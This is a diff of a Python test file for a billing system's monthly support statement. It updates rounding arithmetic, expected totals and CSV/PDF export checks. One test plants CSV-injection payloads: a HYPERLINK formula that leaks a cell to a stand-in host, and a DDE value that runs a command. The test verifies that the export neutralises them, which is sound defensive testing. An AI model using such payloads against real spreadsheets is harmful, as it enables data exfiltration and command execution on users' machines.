@@ -21,7 +21,7 @@ from secondline.billing.models import BillingTerms, PrepaidPackage, Statement
 from secondline.common import spreadsheet
 from secondline.tickets.models import TicketEvent
 from tests.billing.conftest import msk
-from tests.factories import consultation_draft, file_ticket
+from tests.factories import consultation_draft, file_ticket, filed_long_ago
 
 NOVEMBER = dt.date(2024, 11, 1)
 
@@ -38,7 +38,7 @@ def november(personas: Any, ticket: Any, log: Any, approved: Any, agent: Any) ->
         valid_from=dt.date(2024, 11, 1),
         valid_until=dt.date(2025, 1, 31),
     )
-    second = file_ticket(personas.member, consultation_draft(subject="Price lists"))
+    second = filed_long_ago(file_ticket(personas.member, consultation_draft(subject="Price lists")))
     approved(ticket, msk(2024, 11, 1, 18), msk(2024, 11, 1, 21))
     approved(second, msk(2024, 11, 3, 13), msk(2024, 11, 3, 16))
     logs = [
@@ -75,19 +75,21 @@ def test_the_worked_example_matches_the_hand_computation(
     2. Fri 1 Nov 18:30-20:00 business 30 min = 2000.00; 19:00-20:00 out of hours, inside the
        approved 18:00-21:00 window: 60 min x 8000/60 = 8000.00; line 10000.00
     3. Sat 2 Nov (working Saturday) 11:00-12:00 business 60 min = 4000.00
-    4. Sun 3 Nov 14:00-15:20 out of hours, approved window: 80 -> 90 min = 1.5 h x 8000 = 12000.00
+    4. Sun 3 Nov 14:00-15:20 out of hours, approved window: 80 min x 8000/60 = 10666.67; rounded
+       up to 90 min, the 10 min added at the business rate = 666.67; line 11333.34
     5. Mon 4 Nov (holiday) 10:00-11:00: 60 min out of hours, no request: unverified, 0.00
-    6. Tue 5 Nov 19:00-19:05: 5 min out of hours approved after the fact: 15 min = 2000.00
+    6. Tue 5 Nov 19:00-19:05: 5 min out of hours approved after the fact = 666.67; rounded up to
+       15 min, the 10 min added at the business rate = 666.67; line 1333.34
     7. Wed 6 Nov 09:50-10:20: business 20 min -> 30 min = 2000.00; 10 min before 10:00
        unverified, 0.00
     8. Thu 7 Nov non-billable: no line.  9. Sat 9 Nov 10:00-11:00 rejected: 60 min, 0.00
     10. Mon 2 Dec: next month, no line.
 
-    Business 135+30+60+30 = 255 min = 4.25 h: 9000+2000+4000+2000 = 17000.00
-    Out of hours 60+90+15 = 165 min = 2.75 h: 8000+12000+2000 = 22000.00; total 39000.00
+    Business 135+30+60+10+10+30 = 275 min = 4.58 h: 9000+2000+4000+666.67+666.67+2000 = 18333.34
+    Out of hours 60+80+5 = 145 min = 2.42 h: 8000+10666.67+666.67 = 19333.34; total 37666.68
     Unverified 60+10+60 = 130 min, not billed.
-    Prepaid 8 h = 480 min; the month weighs 255 + 165 x 2 = 585 min, so all 480 min are drawn:
-    480 x 4000/60 = 32000.00 covered; due 39000.00 - 32000.00 = 7000.00; 0 h left.
+    Prepaid 8 h = 480 min; the month weighs 275 + 145 x 2 = 565 min, so all 480 min are drawn:
+    480 x 4000/60 = 32000.00 covered; due 37666.68 - 32000.00 = 5666.68; 0 h left.
     """
     statement = statements.generate_statement(personas.contract, NOVEMBER, manager)
     lines = list(statement.lines.order_by("started_at"))
@@ -97,9 +99,9 @@ def test_the_worked_example_matches_the_hand_computation(
             "9000.00",
             "10000.00",
             "4000.00",
-            "12000.00",
+            "11333.34",
             "0.00",
-            "2000.00",
+            "1333.34",
             "2000.00",
             "0.00",
         ]
@@ -111,20 +113,20 @@ def test_the_worked_example_matches_the_hand_computation(
         (135, 0, 0),
         (30, 60, 0),
         (60, 0, 0),
-        (0, 90, 0),
+        (10, 80, 0),
         (0, 0, 60),
-        (0, 15, 0),
+        (10, 5, 0),
         (30, 0, 10),
         (0, 0, 60),
     ]
-    assert (statement.business_minutes, statement.out_of_hours_minutes) == (255, 165)
+    assert (statement.business_minutes, statement.out_of_hours_minutes) == (275, 145)
     assert statement.unverified_minutes == 130
-    assert statement.business_amount == Decimal("17000.00")
-    assert statement.out_of_hours_amount == Decimal("22000.00")
-    assert statement.total_amount == Decimal("39000.00")
+    assert statement.business_amount == Decimal("18333.34")
+    assert statement.out_of_hours_amount == Decimal("19333.34")
+    assert statement.total_amount == Decimal("37666.68")
     assert statement.prepaid_minutes_used == Decimal(480)
     assert statement.prepaid_amount == Decimal("32000.00")
-    assert statement.amount_due == Decimal("7000.00")
+    assert statement.amount_due == Decimal("5666.68")
     assert statement.prepaid_hours_left == Decimal("0.00")
     assert lines[1].hourly_rate == Decimal("4000.00")
     assert lines[1].out_of_hours_rate == Decimal("8000.00")
@@ -185,7 +187,7 @@ def test_a_disputed_line_sends_the_statement_back(
     worklogs.update_worklog(november[0], manager, {"ended_at": msk(2024, 11, 1, 12)})
     statement = statements.generate_statement(personas.contract, NOVEMBER, manager)
     assert statement.status == Statement.Status.DRAFT
-    assert statement.total_amount == Decimal("38000.00")
+    assert statement.total_amount == Decimal("36666.68")
 
 
 def test_statement_generation_takes_the_same_queries_for_any_number_of_logs_in_a_batch(
@@ -218,8 +220,8 @@ def test_the_csv_lists_every_line_and_the_totals(
     assert len(rows) == 1 + 8 + 3
     assert rows[1].startswith("2024-11-01,SL-")
     assert ",2.25,0.00,0.00,4000.00,8000.00,9000.00,0.00,9000.00," in rows[1]
-    assert rows[-3].startswith("Total,") and ",39000.00," in rows[-3]
-    assert rows[-1].endswith(",7000.00,RUB")
+    assert rows[-3].startswith("Total,") and ",37666.68," in rows[-3]
+    assert rows[-1].endswith(",5666.68,RUB")
     russian = export.statement_csv(statement, "ru")
     assert "Дата" in russian and "Итого" in russian and "Анализ" in russian
 
@@ -231,8 +233,8 @@ def _pdf_text(pdf: bytes) -> str:
 @pytest.mark.parametrize(
     ("language", "words"),
     [
-        ("en", ["Statement of support work", "November 2024", "Amount due", "7000.00"]),
-        ("ru", ["Акт", "Ноябрь 2024", "К оплате", "7000,00", "Консультация"]),
+        ("en", ["Statement of support work", "November 2024", "Amount due", "5666.68"]),
+        ("ru", ["Акт", "Ноябрь 2024", "К оплате", "5666,68", "Консультация"]),
     ],
 )
 def test_the_pdf_renders_in_english_and_russian(
@@ -260,7 +262,7 @@ def test_the_csv_writes_a_formula_in_a_subject_or_description_as_text(
     """A customer's ticket subject and an agent's description reach the manager's spreadsheet:
     a cell starting with =, +, -, @ must not run (OWASP CSV Injection)."""
     subject = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-    ticket = file_ticket(personas.member, consultation_draft(subject=subject))
+    ticket = filed_long_ago(file_ticket(personas.member, consultation_draft(subject=subject)))
     log(ticket, msk(2024, 11, 6, 11), msk(2024, 11, 6, 12), description="@SUM(1+1)*cmd|'/C calc'")
     statement = statements.generate_statement(personas.contract, NOVEMBER, manager)
     rows = list(csv.reader(io.StringIO(export.statement_csv(statement, "en").lstrip("\ufeff"))))
